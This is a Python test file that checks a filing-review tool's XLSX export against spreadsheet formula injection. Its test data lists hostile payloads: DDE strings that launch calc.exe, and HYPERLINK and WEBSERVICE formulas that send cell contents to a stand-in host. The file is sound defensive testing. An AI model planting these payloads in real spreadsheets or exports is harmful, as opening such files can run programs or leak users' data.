"""Nothing that a filing prints or a user types can become a formula, a link or a control character."""

import itertools
import tempfile
import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from reviewer.core.filing import Filing
from reviewer.core.grid import Grid, GridRow
from reviewer.core.page import Box
from reviewer.core.provenance import Provenance
from reviewer.core.reading import FieldKey, Reading
from reviewer.core.review import Action, Wrong
from reviewer.export.finished import Finished
from reviewer.export.package import pack
from reviewer.export.parts import parts_beside
from reviewer.export.plain_text import LONGEST, defined_name, fit, header_text, put_text, sheet_name
from tests.export.paper_of import NOON, checked, formulas, written
from tests.export.recalculated import converted

PREFIXES = (
    "=", "+", "-", "@", "\t", "\r", "\n", "＝", "﹦", "＋", "－", "＠", "'", '"', "\ufeff=", "\u200b=", "#",
    "=cmd|' /C calc'!A0",
)  # fmt: skip


@given(st.sampled_from(PREFIXES), st.text())
def test_text_stays_text_whatever_it_begins_with(prefix: str, rest: str) -> None:
    cell = Workbook().active["A1"]
    put_text(cell, prefix + rest)
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert cell.hyperlink is None
    assert not any(ord(char) < 32 and char != "\n" for char in cell.value)


@settings(max_examples=40)
@given(st.lists(st.text(), min_size=1, max_size=5))
def test_any_text_can_be_written_and_read_again(texts: list[str]) -> None:
    book = Workbook()
    for row, text in enumerate(texts, 1):
        put_text(book.active.cell(row, 1), text)
    content = BytesIO()
    with parts_beside(book, Path(tempfile.gettempdir())) as parts:
        parts.add_sheet(book.active, Finished({}).finish(book.active))
        pack(parts, content, NOON)
    with zipfile.ZipFile(content) as package:
        assert "<f>" not in package.read("xl/worksheets/sheet1.xml").decode()
    again = load_workbook(content).active
    assert [again.cell(row, 1).value or "" for row in range(1, len(texts) + 1)] == [fit(text) for text in texts]


@pytest.mark.parametrize("hostile", [prefix + "SUM(1,1)" for prefix in PREFIXES])
def test_no_text_of_a_filing_or_a_user_becomes_a_formula(tmp_path: Path, hostile: str) -> None:
    plain, book = (said_everywhere(text, tmp_path / f"{n}.xlsx") for n, text in enumerate(("plain", hostile)))
    told = [{place: book_[place[0]][place[1]].value for place in formulas(book_)} for book_ in (plain, book)]
    assert told[0] == told[1]
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "e"]
    assert not [cell for cell in cells if cell.hyperlink and (cell.hyperlink.target or not cell.hyperlink.location)]


def said_everywhere(text: str, path: Path) -> Workbook:
    """A working paper of a review in which the filing, its name, its fields and its reviewer all say a text."""
    review, checker = checked()
    key, box = FieldKey("f2", text, text, text), Box(0, 0, 1, 1)
    document = Filing("f2", text, text, 1, title=text, form=text, version=text, banner=text, complaints=(text,))
    grid = Grid("f2", "T01", text, 1, box, (text,), (GridRow(text, (key,)),))
    review.add_filing(document, [Reading(key, text, text, text, "text", Provenance(1, (box,)), doubt=text)], [grid])
    for table, row, field in (("facts", "", "issuer"), ("repurchases", "class-b#1", "venue")):
        key = FieldKey("f1", table, row, field)
        review.act(text, Action.CORRECT, str(key), at=NOON, text=text, wrong=Wrong.MISPRINT, reason=text)
    review.act(text, Action.NOTE, str(key), at=NOON, text=text, reason=text)
    checker.run()
    return written(review, checker, path)


BEGIN_A_FORMULA = (*"=+-@", *"＝＋－＠", *"﹦﹢﹣﹫", *"⁼₌⩵᐀", *"⁺₊", *"−‐‑–—", "\t", "\r", "\n", "\r\n", "\v", "\0")
IN_FRONT = (" ", "\u00a0", "\u3000", "\u200b", "\ufeff", "'", '"', '";', ",", "\n")
PAYLOADS = (
    "SUM(1,1)", "1+1", "cmd|' /C calc'!A0", 'MSEXCEL|"\\..\\..\\calc.exe"!""', "DDE(\"soffice\";\"a\";\"b\")",
    'HYPERLINK("http://example.invalid/?"&A1,"open")', 'WEBSERVICE("http://example.invalid/")', "A1",
)  # fmt: skip
STARTS = (*BEGIN_A_FORMULA, *map("".join, itertools.product(IN_FRONT, "=+-@")))
INJECTED = (
    *(start + payload for start, payload in zip(STARTS, itertools.cycle(PAYLOADS))),
    *("=" + payload for payload in PAYLOADS),
    "#N/A", "TRUE", "1E5", "{=1+1}", "1/2", "00020", "=", "@", "'",
)  # fmt: skip


def test_libreoffice_makes_no_formula_of_a_text_and_changes_none(tmp_path: Path) -> None:
    ours = injected(tmp_path / "book.xlsx")
    out = converted(tmp_path, tmp_path / "book.xlsx")
    theirs = load_workbook(out / "book.xlsx")
    assert formulas(theirs) == formulas(ours)
    told = texts(ours)
    assert texts(theirs) == told
    assert {fit(text) for text in INJECTED} <= set(told.values())


def injected(path: Path) -> Workbook:
    """A working paper in which issuers, file names, labels, corrections, reasons and notes begin like formulas."""
    review, checker = checked()
    issuer, box = FieldKey("f1", "facts", "", "issuer"), Box(0, 0, 1, 1)
    keys = [FieldKey("f1", "facts", "", f"said_{number}") for number in range(len(INJECTED))]
    readings = [
        Reading(key, text, text, text, "text", Provenance(1, (box,)), doubt=text)
        for key, text in zip(keys, INJECTED, strict=True)
    ]
    rows = tuple(GridRow(text, (key,)) for key, text in zip(keys, INJECTED, strict=True))
    held = [*review.readings.values(), *readings]
    grids = (*review.grids["f1"], Grid("f1", "T99", INJECTED[0], 1, box, INJECTED[:1], rows))
    review.add_filing(review.filings["f1"], held, grids)
    for number, begins in enumerate(BEGIN_A_FORMULA[:12]):
        text = begins + PAYLOADS[0]
        review.add_filing(
            Filing(f"n{number}", text, f"{number:064}", 1, title=text, banner=text, complaints=(text,)), ()
        )
        review.act(text, Action.CORRECT, str(issuer), at=NOON, text=text, wrong=Wrong.MISPRINT, reason=text)
    for key, text in zip(keys, INJECTED, strict=True):
        review.act(text, Action.CORRECT, str(key), at=NOON, text=text, wrong=Wrong.MISPRINT, reason=text)
        review.act(text, Action.NOTE, str(key), at=NOON, text=text)
    checker.run()
    return written(review, checker, path)


def texts(book: Workbook) -> dict[tuple[str, str], str]:
    """Sheet and cell of every text that is no formula, and what it says."""
    cells = (cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
    return {(cell.parent.title, cell.coordinate): cell.value for cell in cells if cell.data_type in ("s", "inlineStr")}


def test_nothing_in_the_workbook_leads_out_of_it(tmp_path: Path) -> None:
    written(*checked(), tmp_path / "book.xlsx")
    with zipfile.ZipFile(tmp_path / "book.xlsx") as package:
        parts = {name: package.read(name).decode() for name in package.namelist() if name.endswith((".xml", ".rels"))}
    assert len(parts) > 15
    assert not [name for name, text in parts.items() if 'TargetMode="External"' in text]
    assert not [name for name in parts if "vba" in name.casefold() or "externalLink" in name]
    assert 'state="hidden"' not in parts["xl/workbook.xml"]
    assert 'fullCalcOnLoad="1"' in parts["xl/workbook.xml"]


@given(st.text())
def test_every_sheet_name_is_legal(wanted: str) -> None:
    name = sheet_name(wanted, {"Checks"})
    assert 1 <= len(name) <= 31
    assert not set(name) & set("[]:*?/\\\n")
    assert name.casefold() != "checks"
    assert not name.startswith("'")
    assert not name.endswith("'")


@given(st.text())
def test_every_defined_name_is_legal(wanted: str) -> None:
    name = defined_name(wanted, {"n_cell"})
    assert name[0].isascii()
    assert name[0].isalpha()
    assert "_" in name
    assert name.replace("_", "a").isalnum()


def test_a_page_header_has_no_codes_of_a_filing() -> None:
    assert header_text("A&B &P Ltd\n") == "A&&B &&P Ltd "


def test_long_text_is_cut_and_says_so() -> None:
    assert len(fit("x" * 40_000)) == LONGEST
    assert fit("x" * 40_000).endswith("(cut: a cell holds no more)")


def test_escapes_of_excel_are_kept_as_they_are_printed() -> None:
    assert fit("_x003D_1") == "_x005F_x003D_1"
